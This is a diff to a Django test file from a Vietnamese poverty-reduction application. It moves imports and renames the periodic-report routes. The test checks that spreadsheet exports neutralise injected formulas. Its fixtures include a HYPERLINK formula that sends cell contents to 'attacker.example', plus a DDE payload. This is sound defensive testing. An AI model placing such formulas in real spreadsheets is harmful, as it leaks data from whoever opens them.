@@ -10,12 +10,12 @@ from openpyxl import load_workbook
 
 from giamngheo.clubs.models import Club
 from giamngheo.collaborators.models import Collaborator
+from giamngheo.core.periods import PeriodKind
 from giamngheo.core.spreadsheets import neutralise, safe_row
 from giamngheo.geo.models import Level, Unit
-from giamngheo.groups import services as group_services
 from giamngheo.groups.models import SelfManagedGroup as Group
-from giamngheo.groups.periods import PeriodKind
 from giamngheo.households.models import Household
+from giamngheo.reports import periodic
 from giamngheo.reviews.models import AnnualReview
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
@@ -140,15 +140,15 @@ def test_review_posting_list_and_summary(hostile, login, demo):
 
 def test_group_report_with_typed_text(hostile, login, demo):
     office = demo.users["vanphong.quangngai"]
-    template = group_services.define_template(
+    template = periodic.define_template(
         office=demo.province, name=DDE, period_kind=PeriodKind.QUARTER,
         measures=["groups_formed"], texts=["Khó khăn"], by=office,
     )  # fmt: skip
     client = login(demo.users["canbo.mangden"])
-    url = reverse("groups:report", args=[template.pk, "23473", "2026-q3"])
+    url = reverse("periodic:report", args=[template.pk, "23473", "2026-q3"])
     text_field = template.fields.get(measure="")
     client.post(url, {f"line_{text_field.pk}": HYPERLINK, "version": ""})
-    response = client.get(reverse("groups:report_export", args=[template.pk, "23473", "2026-q3"]))
+    response = client.get(reverse("periodic:report_export", args=[template.pk, "23473", "2026-q3"]))
     _assert_no_formula(response, HYPERLINK)
     _assert_no_formula(response, DDE)
 
